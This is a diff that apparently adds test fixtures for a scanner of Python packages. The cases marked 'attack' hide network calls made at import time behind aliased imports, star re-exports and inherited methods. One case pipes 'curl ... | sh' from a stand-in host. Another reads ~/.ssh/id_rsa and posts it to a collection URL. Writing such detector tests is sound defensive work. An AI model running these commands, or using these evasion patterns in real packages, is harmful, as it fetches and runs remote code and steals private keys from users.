@@ -205,3 +205,149 @@ def client_of_two_modules(p):
             if __name__ == "__main__":
                 show()
             '''})
+
+
+def through(p, compat, use, init="from . import use\n"):
+    return p.wheel(init=init, files={"{m}/compat.py": compat, "{m}/use.py": use})
+
+
+@attack
+def library_under_another_modules_name(p):
+    """A module gives a library on under a name of its own; another fetches with it at import. Must be held."""
+    return through(p, "from urllib import request as web\n",
+                   f'from .compat import web\n\nCOLUMNS = web.urlopen("{URL}").read()\n')
+
+
+@attack
+def library_as_attribute_of_a_module(p):
+    """The same, as an attribute of that module. Must be held."""
+    return through(p, "import urllib.request as web\n",
+                   f'from . import compat\n\nCOLUMNS = compat.web.urlopen("{URL}").read()\n')
+
+
+@attack
+def library_given_on_twice(p):
+    """The same, through a third module, with a star. Must be held."""
+    return p.wheel(init="from . import use\n", files={
+        "{m}/base.py": "import subprocess as runner\n", "{m}/compat.py": "from .base import *\n",
+        "{m}/use.py": 'from .compat import runner\n\nrunner.run(["sh", "-c", "curl -s https://cdn.example.net/i | sh"])\n'})
+
+
+@attack
+def secret_sent_by_a_library_under_another_name(p):
+    """Both libraries come from another module. Must be held."""
+    return through(p, "import os.path as paths\nimport requests as web\n", '''
+        from .compat import paths, web
+
+
+        def report():
+            key = open(paths.expanduser("~/.ssh/id_rsa")).read()
+            web.post("https://collect.example.net/", data=key)
+        ''')
+
+
+@attack
+def inherited_method_of_another_module(p):
+    """A class inherits a method from another module, and its own module calls it at import. Must be held."""
+    return through(p, f'''
+        import urllib.request
+
+
+        class Base:
+            def load(self):
+                return urllib.request.urlopen("{URL}").read()
+        ''', '''
+        from .compat import Base
+
+
+        class Table(Base):
+            pass
+
+
+        TABLE = Table().load()
+        ''')
+
+
+@attack
+def inherited_constructor_of_another_module(p):
+    """A class inherits its constructor from another module; an instance is made at import. Must be held."""
+    return through(p, f'''
+        import urllib.request
+
+
+        class Base:
+            def __init__(self):
+                self.rows = urllib.request.urlopen("{URL}").read()
+        ''', '''
+        from . import compat
+
+
+        class Table(compat.Base):
+            width = 80
+
+
+        TABLE = Table()
+        ''')
+
+
+@attack
+def inherited_method_calls_own(p):
+    """A method of the class calls one that it inherits from another module. Must be held."""
+    return through(p, f'''
+        import urllib.request
+
+
+        class Base:
+            def load(self):
+                return urllib.request.urlopen("{URL}").read()
+        ''', '''
+        from .compat import Base
+
+
+        class Table(Base):
+            def __init__(self):
+                self.rows = self.load()
+
+
+        TABLE = Table()
+        ''')
+
+
+@honest
+def libraries_by_a_compatibility_module(p):
+    """Libraries of two versions of Python under one name, used when somebody calls a function."""
+    return through(p, '''
+        try:
+            from urllib import request as web
+        except ImportError:
+            import urllib2 as web
+        ''', '''
+        from .compat import web
+
+
+        def newest(url):
+            return web.urlopen(url).read()
+        ''')
+
+
+@honest
+def inherits_a_client(p):
+    """A class inherits a method that fetches; nobody calls it at import."""
+    return through(p, f'''
+        import urllib.request
+
+
+        class Base:
+            def load(self):
+                return urllib.request.urlopen("{URL}").read()
+        ''', '''
+        from .compat import Base
+
+
+        class Table(Base):
+            def rows(self):
+                return self.load().splitlines()
+
+
+        TABLE = Table()
+        ''')
